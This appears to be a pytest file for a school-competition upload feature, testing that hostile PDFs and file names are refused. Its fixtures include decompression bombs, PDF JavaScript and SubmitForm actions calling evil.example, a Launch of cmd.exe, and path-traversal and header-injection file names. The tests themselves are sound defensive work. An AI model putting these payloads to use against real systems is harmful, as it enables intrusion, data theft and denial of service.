"""Hostile uploads are refused with a clear message and leave nothing behind."""

import io
from datetime import date

import pytest

from compmgr.auth.models import Role
from compmgr.registration.documents import expanded_size, safe_filename
from compmgr.registration.models import Document
from tests.factories import (
    CompetitionFactory,
    ParticipantFactory,
    ProjectFactory,
    SchoolFactory,
    UserFactory,
    grant,
    make_pdf,
)
from tests.forms import submit
from tests.hostile.pdfs import (
    a85_bomb,
    bomb,
    catalog_pdf,
    double_bomb,
    endstream_bomb,
    hex_bomb,
    lying_count,
    objstm_pdf,
    raw_pdf,
)


@pytest.fixture
def app_config():
    return {"PDF_MAX_EXPANDED_MB": 8, "MAX_CONTENT_LENGTH": 4 * 1024 * 1024}


@pytest.fixture
def school_web(db, login_as):
    comp = CompetitionFactory(
        registration_deadline=date(2099, 11, 30), paper_deadline=date(2099, 12, 15)
    )
    comp.paper_max_mb = 2
    school = SchoolFactory(competition_id=comp.id)
    user = grant(UserFactory(email="schule@example.org"), comp, Role.SCHOOL, school)
    lena = ParticipantFactory(competition_id=comp.id, school=school, birth_date=date(2010, 5, 17))
    project = ProjectFactory(competition=comp, school=school, participants=[lena])
    db.session.commit()
    web = login_as(user)
    return web, f"/c/{comp.id}/school/projects/{project.id}"


def upload(web, base, data, name="arbeit.pdf"):
    return submit(
        web.get(base),
        having={"kind": "paper"},
        file=(io.BytesIO(data), name),
        follow_redirects=True,
    )


def documents(db):
    db.session.rollback()
    return db.session.scalars(db.select(Document)).all()


def many_pages(n):
    kids = b" ".join(b"3 0 R" for _ in range(n))
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


@pytest.mark.parametrize(
    "data,message",
    [
        (b"", "Die Datei ist leer"),
        (b"MZ\x90\x00 an .exe renamed to .pdf", "keine PDF-Datei"),
        (b"\x89PNG\r\n\x1a\n picture renamed", "keine PDF-Datei"),
        (b"%PDF-1.7\n" + b"A" * (2 * 1024 * 1024 + 10), "erlaubt sind höchstens 2 MB"),
        (bomb(64 * 1024 * 1024), "entpackt sich auf über 8 MB"),
        (many_pages(5000), "höchstens 500 Seiten"),
        (lying_count(10**12)[:-40], "beschädigt"),
    ],
    ids=["empty", "exe", "png", "oversized", "bomb", "pages", "truncated"],
)
def test_hostile_pdf_is_refused_with_a_clear_message(school_web, db, data, message):
    web, base = school_web
    html = upload(web, base, data).get_data(as_text=True)
    assert message in html
    assert documents(db) == []


BOMBS = {
    "lone-cr": lambda size: bomb(size, eol=b"\r"),
    "space-crlf": lambda size: bomb(size, eol=b" \r\n"),
    "junk-before-eol": lambda size: bomb(size, eol=b" %junk\n"),  # pdf.js skips to the line end
    "no-eol": lambda size: bomb(size, eol=b""),
    "endstream-inside": endstream_bomb,
    "flate-of-flate": double_bomb,
    "hex-then-flate": hex_bomb,
    "ascii85-then-flate-of-flate": a85_bomb,
}


@pytest.mark.parametrize("make", BOMBS.values(), ids=BOMBS.keys())
def test_bombs_behind_odd_stream_syntax_are_refused(school_web, db, make):
    data = make(64 * 1024 * 1024)
    assert len(data) < 100_000  # a small file: only what it unpacks to gives it away
    html = upload(school_web[0], school_web[1], data).get_data(as_text=True)
    assert "entpackt sich auf über 8 MB" in html
    assert documents(db) == []


JS = b"<< /S /JavaScript /JS (app.launchURL('http://evil.example/');) >>"
ACTIVE = {
    "open-action-js": (catalog_pdf(b"/OpenAction 4 0 R", JS), "JavaScript"),
    "escaped-name": (
        catalog_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "JavaScript",
    ),
    "names-tree-js": (
        catalog_pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", JS),
        "JavaScript",
    ),
    "page-aa-js": (catalog_pdf(b"", JS, page_extra=b" /AA << /O 4 0 R >>"), "JavaScript"),
    "js-in-object-stream": (objstm_pdf(JS), "JavaScript"),
    "launch": (catalog_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "Programme starten"),
    "submit-form": (
        catalog_pdf(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
        "Daten senden",
    ),
    "embedded-file": (
        catalog_pdf(
            b"/Names << /EmbeddedFiles << /Names [(polyglot.html) 4 0 R] >> >>",
            b"<< /Type /Filespec /F (polyglot.html) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\n<h1>\nendstream",
        ),
        "eingebettete Dateien",
    ),
    "file-attachment": (
        catalog_pdf(
            b"",
            b"[<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (x.exe) >>]",
            page_extra=b" /Annots 4 0 R",
        ),
        "eingebettete Dateien",
    ),
    "xfa": (catalog_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"(<xdp/>)"), "XFA"),
}


@pytest.mark.parametrize("data,what", ACTIVE.values(), ids=ACTIVE.keys())
def test_pdfs_that_act_on_their_own_are_refused(school_web, db, data, what):
    html = upload(school_web[0], school_web[1], data).get_data(as_text=True)
    assert "zum Schutz der Jury nicht angenommen" in html and what in html
    assert "Drucken als PDF" in html  # the teacher learns how to make an acceptable file
    assert documents(db) == []


def test_links_bookmarks_and_an_opening_view_are_no_active_content(school_web, db):
    data = catalog_pdf(
        b"/OpenAction [3 0 R /Fit] /Outlines 4 0 R /Info 6 0 R",
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Kapitel 3: HTML/JavaScript und /JS) /Parent 4 0 R /Dest [3 0 R /Fit] >>",
        b"<< /Title (Node/JS im Unterricht) >>",
        b"[<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://www.jugend-forscht.de/) >> >>]",
        page_extra=b" /Annots 7 0 R",
    )
    assert "1 Seite" in upload(school_web[0], school_web[1], data).get_data(as_text=True)
    assert len(documents(db)) == 1


def test_a_pdf_of_too_many_objects_is_refused(school_web, db):
    from compmgr.competitions.models import Competition

    db.session.scalars(db.select(Competition)).one().paper_max_mb = 3  # 60,000 objects: 2.6 MB
    data = catalog_pdf(b"", *[b"<<>>"] * 60_000)
    html = upload(school_web[0], school_web[1], data).get_data(as_text=True)
    assert "ungewöhnlich vielen Teilen" in html
    assert documents(db) == []


def test_request_over_the_hard_limit_gets_the_413_page(school_web, db):
    web, base = school_web
    response = upload(web, base, b"%PDF-1.4\n" + b"0" * (5 * 1024 * 1024))
    assert response.status_code == 413
    assert "Datei zu groß" in response.get_data(as_text=True)
    assert documents(db) == []


@pytest.mark.parametrize(
    "name,shown",
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        ("..", "dokument.pdf"),
        ("arbeit\x00.exe.pdf", "arbeit.exe.pdf"),
        ("ä" * 5000 + ".pdf", None),
    ],
    ids=["dotdot", "backslash", "only-dots", "nul", "long"],
)
def test_hostile_file_names_are_cleaned(school_web, db, name, shown):
    web, base = school_web
    response = upload(web, base, make_pdf(), name=name)
    assert response.status_code == 200
    (doc,) = documents(db)
    assert doc.stored_name.isalnum() and len(doc.stored_name) == 32
    assert (
        "/" not in doc.original_name
        and "\\" not in doc.original_name
        and "\x00" not in doc.original_name
    )
    if shown is None:
        assert len(doc.original_name) == 120 and doc.original_name.endswith("….pdf")
    else:
        assert doc.original_name.endswith(shown) and not doc.original_name.startswith(".")


def test_a_good_pdf_still_passes(school_web, db):
    web, base = school_web
    assert "3 Seiten" in upload(web, base, make_pdf(3)).get_data(as_text=True)
    assert len(documents(db)) == 1


def test_expanded_size_stops_early_and_ignores_other_streams():
    assert expanded_size(bomb(20 * 1024 * 1024), 1024 * 1024) <= 2 * 1024 * 1024
    assert expanded_size(make_pdf(2), 10**9) < 10_000
    assert expanded_size(b"%PDF stream\n\xff\xd8 jpeg data endstream", 10) == 0


def test_safe_filename_keeps_normal_names():
    assert safe_filename("Schriftliche Arbeit – Müller.pdf") == "Schriftliche Arbeit – Müller.pdf"
    assert safe_filename("") == safe_filename(None) == "dokument.pdf"
    assert safe_filename("zeile\r\nSet-Cookie: x.pdf") == "zeileSet-Cookie: x.pdf"
    assert safe_filename("rechts\u202eexe.pdf") == "rechtsexe.pdf"  # no right-to-left override
